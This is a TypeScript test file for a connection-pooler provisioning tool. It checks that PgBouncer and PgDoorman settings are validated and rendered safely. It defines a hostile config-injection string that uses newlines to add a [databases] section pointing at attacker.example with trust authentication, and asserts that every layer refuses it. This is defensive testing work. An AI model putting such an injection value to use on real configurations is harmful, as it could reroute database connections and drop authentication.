/**
 * A pooler's `settings` on its way to a host (issue 39 item 3b): typed JSON values in the host config
 * user data writes (lib/constructs/pooler-user-data.ts), checked again by the bootstrap
 * (lib/pooler-host/bootstrap.ts), rendered by the driver (PgBouncer ini, PgDoorman TOML). A hostile
 * value — one that would start a new line or section in the configuration file — is refused at
 * validate, and could not reach a host even if a config were built around validate.
 */
import { validateLab } from '../../lib/config';
import { poolerBootstrapCommands } from '../../lib/constructs/pooler-user-data';
import { parsePoolerHostConfig } from '../../lib/pooler-host/bootstrap';
import type { PoolerHostConfig } from '../../lib/poolers/host-config';
import { poolerDriver } from '../../lib/poolers/registry';

const HOSTILE = 'select 1\n[databases]\n* = host=attacker.example auth_user=x\nauth_type = trust';

const config: PoolerHostConfig = {
  name: 'bouncer',
  product: 'pgbouncer',
  placement: 'dedicated',
  region: 'eu-west-1',
  dbSecretArn: 'arn:db',
  adminSecretArn: 'arn:admin',
  serverHost: 'writer.example',
  serverPort: 5432,
  listenAddr: '0.0.0.0',
  poolModes: ['transaction'],
  processes: 1,
  poolPercent: 90,
  sharedBy: 1,
  maxPreparedStatements: 200,
  tls: false,
  binaryPath: '/usr/local/bin/pgbouncer',
  version: '1.25.2',
};

function render(c: PoolerHostConfig, workerThreads = 1): string {
  const files = poolerDriver(c.product).host.render({
    config: c,
    root: '/r',
    dataPort: 6432,
    poolSizePerProcess: 10,
    dbname: 'postgres',
    dbUser: { username: 'u', password: 'p' },
    adminUser: { username: 'a', password: 'q' },
    workerThreads,
    random: (n) => Buffer.alloc(n, 1),
  });
  return files.map((f) => f.text).join('\n');
}

test('a hostile setting value is refused at validate, naming the field, the value and what is allowed', () => {
  // GIVEN a lab whose pooler's server_check_query would add a [databases] section
  const v = validateLab({
    name: 'x',
    poolers: [
      { name: 'b', kind: 'pgbouncer', placement: 'dedicated', settings: { server_check_query: HOSTILE } },
    ],
  });
  // THEN it is invalid at poolers[0].settings.server_check_query
  expect(v.ok).toBe(false);
  const problem = v.ok
    ? undefined
    : v.problems.find((p) => p.path === 'poolers[0].settings.server_check_query');
  expect(problem?.message).toMatch(/one line of printable ASCII/);
  expect(problem?.message).toMatch(/got "select 1\\n\[databases\]/);
});

describe('a config built around validate cannot carry it to a host', () => {
  test('user data refuses to write it', () => {
    expect(() => poolerBootstrapCommands({ ...config, settings: { server_check_query: HOSTILE } })).toThrow(
      /pooler bouncer: poolers\[bouncer\]\.settings\.server_check_query must be one line/,
    );
    // and a setting proxylab derives from a lab field is refused there too
    expect(() => poolerBootstrapCommands({ ...config, settings: { default_pool_size: 500 } })).toThrow(
      /default_pool_size is set by proxylab/,
    );
  });

  test('the bootstrap refuses a host config file carrying it, before writing anything', () => {
    const file = JSON.stringify({ ...config, settings: { server_check_query: HOSTILE } });
    expect(() => parsePoolerHostConfig(file, 'pooler-bouncer.json')).toThrow(
      /pooler-bouncer\.json: settings\.server_check_query: must be one line/,
    );
    // a name outside the catalogue, and a value of the wrong type
    expect(() =>
      parsePoolerHostConfig(JSON.stringify({ ...config, settings: { auth_type: 'trust' } }), 'f.json'),
    ).toThrow(/settings\.auth_type: is not a PgBouncer setting proxylab knows/);
    expect(() =>
      parsePoolerHostConfig(JSON.stringify({ ...config, settings: { server_login_retry: '2\n' } }), 'f.json'),
    ).toThrow(/settings\.server_login_retry: must be a number/);
  });

  test('the renderer refuses it too (a value is never pasted as text)', () => {
    expect(() => render({ ...config, settings: { server_check_query: HOSTILE } })).toThrow(
      /server_check_query must be one line/,
    );
  });
});

describe('good settings travel typed and are rendered', () => {
  test('user data writes them as JSON inside the heredoc; its end marker appears only where it ends', () => {
    const settings = { server_login_retry: 2, server_check_query: "SELECT 'PROXYLAB_POOLER_CONFIG'" };
    const lines = poolerBootstrapCommands({ ...config, settings });
    const start = lines.findIndex((l) => l.endsWith("<<'PROXYLAB_POOLER_CONFIG'"));
    const end = lines.indexOf('PROXYLAB_POOLER_CONFIG');
    expect(end).toBe(start + 2);
    const written = JSON.parse(lines[start + 1] as string) as PoolerHostConfig;
    expect(written.settings).toEqual(settings);
    expect(parsePoolerHostConfig(lines[start + 1] as string, 'f.json').settings).toEqual(settings);
  });

  test('a host config without settings reads as before (older user data)', () => {
    expect(parsePoolerHostConfig(JSON.stringify(config), 'f.json')).not.toHaveProperty('settings');
  });

  test('PgBouncer: each setting one ini line from its type', () => {
    const ini = render({
      ...config,
      settings: { server_login_retry: 2.5, server_fast_close: true, track_extra_parameters: ['search_path'] },
    });
    expect(ini).toMatch(/^server_login_retry = 2\.5$/m);
    expect(ini).toMatch(/^server_fast_close = 1$/m);
    expect(ini).toMatch(/^track_extra_parameters = search_path$/m);
  });

  test('PgDoorman: general and pool settings in their sections, as TOML literals', () => {
    const toml = render(
      {
        ...config,
        product: 'pgdoorman',
        version: '3.10.7',
        binaryPath: '/usr/local/bin/pg_doorman',
        settings: { query_wait_timeout: 30_000, connect_timeout: 1000 },
      },
      2,
    );
    expect(toml).toMatch(/^query_wait_timeout = 30000$/m);
    expect(toml).toMatch(/^connect_timeout = 1000$/m);
  });
});
